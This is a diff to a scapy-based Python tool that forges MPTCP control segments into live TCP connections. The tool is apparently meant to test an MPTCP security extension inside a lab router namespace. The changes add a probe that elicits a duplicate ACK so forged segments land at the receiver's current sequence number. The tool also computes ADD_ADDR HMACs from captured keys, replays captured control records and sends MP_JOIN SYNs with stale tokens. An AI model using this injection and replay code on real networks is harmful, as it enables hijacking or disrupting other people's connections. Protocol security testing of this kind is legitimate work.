@@ -3,11 +3,13 @@
 """Forge MPTCP control segments into a live connection (scapy).
 
 Run in the router namespace of a path.  The test freezes the direction
-it forges in (an nft drop rule), so the last segment the router forwarded
-in that direction tells the receiver's rcv_nxt exactly; this tool reads
-it from a capture of the egress interface, builds the forged segment
-from it (addresses, ports, sequence and acknowledgment numbers,
-timestamps) and sends it on that interface.
+it forges in (an nft drop rule), so the receiver's rcv_nxt stays put; this
+tool takes the next segment the receiver sends (a probe with an old
+sequence number makes it send a duplicate ACK), whose acknowledgment
+number is that rcv_nxt and whose TSecr is its ts_recent, builds the forged
+segment from it and sends it on that interface.  A capture of the
+interface gives what the forgery needs besides: addresses, the keys of
+plain MPTCP, DSNs and segments to replay.
 
   mptcp_forge.py opt PCAP IFACE DIR PORT KIND [ARGS]   forged option on a
         pure ACK; KIND: rm_addr ID | add_addr ID ADDR | mp_prio |
@@ -29,8 +31,10 @@ import hmac
 import os
 import struct
 import sys
+import time
 
-from scapy.all import Ether, IP, TCP, Raw, conf, rdpcap, send, sendp
+from scapy.all import Ether, IP, TCP, Raw, AsyncSniffer, L3RawSocket, conf, \
+    rdpcap, send, sendp
 
 conf.verb = 0
 MPTCP = 30
@@ -73,13 +77,20 @@ def direction(pkts, dirn, port):
     return [p for p in pkts if p[TCP].dport == port]
 
 
+def plen(p):
+    """TCP payload length from the IP header (captures are truncated)"""
+    return p[IP].len - p[IP].ihl * 4 - p[TCP].dataofs * 4
+
+
+def end(p):
+    return (p[TCP].seq + plen(p)) & 0xffffffff
+
+
 def last(pkts, dirn, port):
     seg = direction(pkts, dirn, port)
     if not seg:
         sys.exit("no %s segment for port %d" % (dirn, port))
     # the highest end sequence number: what the receiver has now
-    def end(p):
-        return (p[TCP].seq + len(p[TCP].payload)) & 0xffffffff
     best = seg[-1]
     for p in seg:
         if ((end(p) - end(best)) & 0xffffffff) < 0x80000000:
@@ -94,27 +105,55 @@ def ts_of(tcp):
     return None
 
 
-def forge(tmpl, mopts, payload=b''):
-    """a segment like TMPL, at its end sequence number, with MOPTS"""
+def live(pkts, iface, dirn, port):
+    """A segment the receiver sent while DIR is frozen: its ack is the
+    receiver's rcv_nxt, its TSecr the receiver's ts_recent.  A probe with
+    an old sequence number makes the receiver send one (a duplicate ACK)
+    if it sends nothing else; the capture alone may lag behind."""
+    tmpl = last(pkts, dirn, port)
     t = tmpl[TCP]
-    seq = (t.seq + len(t.payload)) & 0xffffffff
+    flt = "tcp and src host %s and src port %d and dst port %d" % \
+        (tmpl[IP].dst, t.dport, t.sport)
+    sn = AsyncSniffer(iface=iface, filter=flt, count=1, timeout=10)
+    sn.start()
+    time.sleep(0.5)
     opts = []
     ts = ts_of(t)
     if ts:
-        opts += [('NOP', None), ('NOP', None), ('Timestamp', ts)]
+        opts = [('NOP', None), ('NOP', None), ('Timestamp', ts)]
+    probe = Ether(src=tmpl[Ether].src, dst=tmpl[Ether].dst) / \
+        IP(src=tmpl[IP].src, dst=tmpl[IP].dst) / \
+        TCP(sport=t.sport, dport=t.dport, seq=(end(tmpl) - 0x40000000) & 0xffffffff,
+            ack=t.ack, flags='A', window=t.window, options=opts)
+    sendp(probe, iface=iface)
+    sn.join()
+    if not sn.results:
+        sys.exit("no segment from the receiver")
+    return tmpl, sn.results[0]
+
+
+def forge(tmpl, rcv, mopts, payload=b''):
+    """a segment of TMPL's direction at the receiver's rcv_nxt (from RCV,
+    a live segment of the receiver), with MOPTS"""
+    r = rcv[TCP]
+    opts = []
+    ts = ts_of(r)
+    if ts:
+        opts += [('NOP', None), ('NOP', None), ('Timestamp', (ts[1], ts[0]))]
     for o in mopts:
         opts.append((MPTCP, o))
-    pkt = Ether(src=tmpl[Ether].src, dst=tmpl[Ether].dst) / \
-        IP(src=tmpl[IP].src, dst=tmpl[IP].dst, ttl=tmpl[IP].ttl) / \
-        TCP(sport=t.sport, dport=t.dport, seq=seq, ack=t.ack, flags='A',
-            window=t.window, options=opts)
+    pkt = Ether(src=rcv[Ether].dst, dst=rcv[Ether].src) / \
+        IP(src=rcv[IP].dst, dst=rcv[IP].src, ttl=tmpl[IP].ttl) / \
+        TCP(sport=r.dport, dport=r.sport, seq=r.ack, ack=r.seq, flags='A',
+            window=tmpl[TCP].window, options=opts)
     if payload:
         pkt = pkt / Raw(payload)
     return pkt
 
 
 def add_addr_hmac(k_sender, k_receiver, aid, addr):
-    msg = bytes([aid]) + bytes(int(x) for x in addr.split('.'))
+    # as upstream's add_addr_generate_hmac(): the port is always there
+    msg = bytes([aid]) + bytes(int(x) for x in addr.split('.')) + b'\0\0'
     key = struct.pack('!QQ', k_sender, k_receiver)
     return hmac.new(key, msg, hashlib.sha256).digest()[-8:]
 
@@ -142,7 +181,6 @@ def latest_dsn_end(pkts, dirn, port):
 
 def cmd_opt(pcap, iface, dirn, port, kind, *args):
     pkts = ends(pcap)
-    tmpl = last(pkts, dirn, port)
     k = keys(pkts)
     if kind == 'rm_addr':
         o = bytes([0x40, int(args[0])])
@@ -171,7 +209,8 @@ def cmd_opt(pcap, iface, dirn, port, kind, *args):
         o = bytes([0x70, 0]) + val
     else:
         sys.exit("unknown option " + kind)
-    pkt = forge(tmpl, [o])
+    tmpl, rcv = live(pkts, iface, dirn, port)
+    pkt = forge(tmpl, rcv, [o])
     sendp(pkt, iface=iface)
     print("forged: %s %s %s:%d -> %s:%d seq %d ack %d keys %s" %
           (kind, dirn, pkt[IP].src, pkt[TCP].sport, pkt[IP].dst,
@@ -182,17 +221,17 @@ def cmd_opt(pcap, iface, dirn, port, kind, *args):
 def is_ctrl(p):
     """an MPTCPsec control record: ctr(8) Topt(16) olen(2) options"""
     pl = bytes(p[TCP].payload)
-    if len(pl) < 26:
+    if plen(p) < 26 or len(pl) < 26:
         return None
     olen = struct.unpack('!H', pl[24:26])[0]
-    if len(pl) != 26 + olen:
+    if plen(p) != 26 + olen or len(pl) < plen(p):
         return None
+    pl = pl[:plen(p)]
     return olen, pl
 
 
 def cmd_replay(pcap, iface, dirn, port, what):
     pkts = ends(pcap)
-    tmpl = last(pkts, dirn, port)
     found = None
     for p in direction(pkts, dirn, port):
         mo = mptcp_opts(p[TCP])
@@ -205,17 +244,19 @@ def cmd_replay(pcap, iface, dirn, port, what):
                 found = p
                 break
         elif what == 'ctrl':
-            if (c and not c[0]) or (not len(p[TCP].payload) and
+            if (c and not c[0]) or (not plen(p) and
                                     any(subtype(o) == 2 for o in mo)):
                 found = p
                 break
     if found is None:
         sys.exit("nothing to replay (%s)" % what)
     mo = [o for o in mptcp_opts(found[TCP])]
-    pkt = forge(tmpl, mo, bytes(found[TCP].payload))
+    payload = bytes(found[TCP].payload)[:plen(found)]
+    tmpl, rcv = live(pkts, iface, dirn, port)
+    pkt = forge(tmpl, rcv, mo, payload)
     sendp(pkt, iface=iface)
     print("forged: replay of %s (%d payload bytes, captured seq %d) at seq %d" %
-          (what, len(found[TCP].payload), found[TCP].seq, pkt[TCP].seq))
+          (what, len(payload), found[TCP].seq, pkt[TCP].seq))
 
 
 def join_token(pcap):
@@ -235,6 +276,9 @@ def cmd_join(pcap, src, dst, dport):
                                      dport=int(dport), flags='S',
                                      seq=struct.unpack('!I', os.urandom(4))[0],
                                      options=[('MSS', 1460), (MPTCP, o)])
+    # the kernel routes it and resolves the next hop (scapy's own layer 3
+    # socket may fall back to a broadcast MAC, which TCP drops)
+    conf.L3socket = L3RawSocket
     send(pkt)
     print("forged: MP_JOIN SYN %s -> %s:%s with stale token %08x" %
           (src, dst, dport, tok))
